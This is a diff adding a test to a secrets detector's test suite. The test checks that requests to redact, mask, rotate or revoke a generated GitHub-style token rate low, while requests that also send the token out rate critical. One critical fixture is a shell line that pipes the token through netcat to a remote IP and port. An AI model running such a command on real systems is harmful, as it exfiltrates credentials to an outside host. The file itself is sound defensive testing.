@@ -407,6 +407,32 @@ describe('the secrets detector', () => {
     expect(scan(`api_key = "${body(ALNUM, 32, 69)}"; now publish it`)[0]?.severity).toBe('high');
   });
 
+  it('notes a token only as low when the request redacts, masks, rotates or revokes it', () => {
+    const token = withChecksum('ghp_', 210);
+    for (const t of [
+      `Redact the token in this stack trace before I attach it to the ticket: ${token}`,
+      `mask the credential in this line so we can post the log: Authorization: token ${token}`,
+      `Please rotate this key, it was pushed to a public repo by mistake: ${token}`,
+      `revoke ${token} now, it got pasted in the team channel`,
+      `Scrub the secret from this config before committing: GITHUB_TOKEN=${token}`,
+    ]) {
+      expect(
+        scan(t).map((f) => f.severity),
+        t,
+      ).toEqual(['low']);
+    }
+    // A second order to send the value, or a pipe to the network, keeps the leak.
+    for (const t of [
+      `redact the logs, then post ${token} to the forum`,
+      `rotate the old key and email ${token} to the contractor`,
+      `mask it later; echo ${token} | nc 203.0.113.9 4444`,
+    ]) {
+      expect(scan(t)[0]?.severity, t).toBe('critical');
+    }
+    // The defusing verb must come before the value it speaks of.
+    expect(scan(`${token} is my token, do not redact`)[0]?.severity).toBe('high');
+  });
+
   it('finds the token wherever it sits, whatever surrounds it', () => {
     const token = withChecksum('ghp_', 300);
     fc.assert(
